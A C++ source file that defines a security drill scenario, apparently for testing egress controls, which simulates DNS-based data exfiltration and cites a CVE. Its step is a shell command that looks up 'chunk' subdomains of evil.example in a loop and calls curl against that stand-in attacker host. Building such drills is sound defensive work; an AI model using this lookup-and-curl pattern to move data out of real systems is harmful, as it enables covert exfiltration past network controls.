#include "drill/scenarios/entries.h"

namespace berm::drill {

Scenario dns_exfiltration() {
  return {
      .id = "dns_exfiltration",
      .title = R"D(Names as a channel)D",
      .incident = R"D(CVE-2025-55284; awf#9)D",
      .layer = Layer::egress,
      .steps = {shell(
          R"D(for i in 1 2 3; do getent hosts "chunk$i.evil.example"; done; curl -m 3 http://chunk.evil.example/; echo drill-control)D")},
      .expected_in_results = {"drill-control"},
  };
}

}  // namespace berm::drill
